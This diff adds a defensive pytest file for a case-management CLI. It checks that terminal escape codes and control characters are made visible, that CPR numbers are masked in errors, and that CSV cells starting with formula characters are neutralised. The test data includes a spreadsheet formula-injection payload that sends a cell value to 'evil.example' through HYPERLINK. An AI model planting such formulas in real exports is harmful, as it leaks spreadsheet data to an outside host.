@@ -1,0 +1,116 @@
+"""User text is data, never markup: it cannot break a table, a terminal, a spreadsheet or a message."""
+
+from __future__ import annotations
+
+import csv
+import io
+import itertools
+import shutil
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from conftest import Samfam
+from samfam.output.cells import spreadsheet_safe, visible
+from support import DOMAIN_ERROR
+
+ESC = "\x1b"
+
+
+@pytest.mark.parametrize(
+    ("typed", "shown"),
+    [
+        pytest.param("Alma", "Alma", id="plain-text-unchanged"),
+        pytest.param("a\x1b[31mb", "a␛[31mb", id="escape-made-visible"),
+        pytest.param("a\x07b\x00c", "a␇b␀c", id="bell-and-nul-visible"),
+        pytest.param("line\nnext\tcol", "line\nnext\tcol", id="newline-and-tab-kept"),
+        pytest.param("a\x9bb", "a\ufffdb", id="c1-control-replaced"),
+        pytest.param("del\x7f", "del␡", id="delete-visible"),
+        pytest.param("[/bold] [red]x", "[/bold] [red]x", id="markup-is-just-text"),
+    ],
+)
+def test_control_characters_are_made_visible_for_a_terminal(typed, shown):
+    assert visible(typed) == shown
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        pytest.param('=HYPERLINK("http://x"&A1,"Emil")', '\'=HYPERLINK("http://x"&A1,"Emil")', id="formula"),
+        pytest.param("+45 1234", "'+45 1234", id="plus"),
+        pytest.param("-5 kr", "'-5 kr", id="minus-in-text"),
+        pytest.param("@SUM(A1)", "'@SUM(A1)", id="at"),
+        pytest.param("\tx", "'\tx", id="tab"),
+        pytest.param("\rx", "'\nx", id="carriage-return"),
+        pytest.param("a\r\nb", "a\nb", id="carriage-return-inside-becomes-a-newline"),
+        pytest.param("Alma", "Alma", id="ordinary-text"),
+        pytest.param(-66, "-66", id="negative-number-stays-a-number"),
+    ],
+)
+def test_csv_text_that_looks_like_a_formula_is_neutralised(value, expected):
+    assert spreadsheet_safe(value, str(value)) == expected
+
+
+def test_a_cpr_number_typed_as_a_case_reference_is_masked_in_the_error(team):
+    for typed in ("0101901234", "010190-1234"):
+        result = team("case", "show", typed)
+        assert result.exit_code == DOMAIN_ERROR
+        assert "010190-XXXX" in result.stderr
+        assert "1234" not in result.stderr
+
+
+def test_a_formula_in_a_name_is_neutralised_in_every_csv_but_exact_in_json(team, open_case):
+    name = '=HYPERLINK("http://evil.example"&A1,"Emil")'
+    team.ok("case", "open", "2026-0900", "--child", name, "--advisor", "MKJ", "--opened", "2026-06-01")
+    rows = list(csv.DictReader(io.StringIO(team.ok("case", "list", "-f", "csv").stdout)))
+    assert rows[0]["child"] == "'" + name
+    assert team.ok("case", "list", "-f", "json").json()[0]["child"] == name
+
+
+# -- arbitrary text through every read command, in every format -------------------------------------
+
+_texts = st.text(
+    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), min_size=1, max_size=60
+).filter(lambda s: s.strip())
+_counter = itertools.count()
+
+READS = [
+    ("case", "show", "2026-0901"),
+    ("case", "list"),
+    ("event", "list", "2026-0901"),
+    ("goals", "2026-0901"),
+    ("explain", "2026-0901"),
+    ("overdue",),
+    ("due", "--within", "365"),
+    ("audit", "--case", "2026-0901"),
+    ("actor", "list", "2026-0901"),
+]
+
+
+@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(child=_texts, note=_texts, goal=_texts)
+def test_arbitrary_text_never_breaks_a_read_in_any_format(migrated_db, tmp_path, child, note, goal):
+    db = tmp_path / f"safety-{next(_counter)}.db"
+    shutil.copy2(migrated_db, db)
+    s = Samfam(db)
+    s.ok("advisor", "add", "MKJ", "--name", "Mette Kjær Jensen", "--team", "Nord")
+    s.ok("case", "open", "2026-0901", "--child", child, "--advisor", "MKJ", "--opened", "2026-06-01", "--para", "BL 86")
+    s.ok("event", "add", "2026-0901", "followup", "--on", "2026-06-15", "--note", note)
+    s.ok("goal", "add", "2026-0901", goal, "--horizon", "short", "--owner", "family", "--target", "2026-08-01")
+    s.ok("actor", "add", "2026-0901", "school", "--name", child, "--contact", note)
+    for argv in READS:
+        table = s.ok(*argv)
+        assert ESC not in table.stdout, argv  # no escape sequence from stored text reaches the terminal
+        data = s.ok(*argv, "-f", "json").json()
+        assert data is not None
+        list(csv.reader(io.StringIO(s.ok(*argv, "-f", "csv").stdout)))  # parses as CSV
+    card = s.ok("case", "show", "2026-0901", "-f", "json").json()
+    assert card["child"] == child.strip()  # JSON is exact (names are trimmed when stored)
+    assert card["events"][0]["note"] == note
+    assert card["goals"][0]["text"] == goal.strip()
+    for fmt in ("table", "json", "markdown", "html"):
+        report = s.ok("report", "weekly", "--format", fmt)
+        assert fmt != "table" or ESC not in report.stdout
+    for fmt in ("markdown", "html"):
+        s.ok("plan", "2026-0901", "--format", fmt)
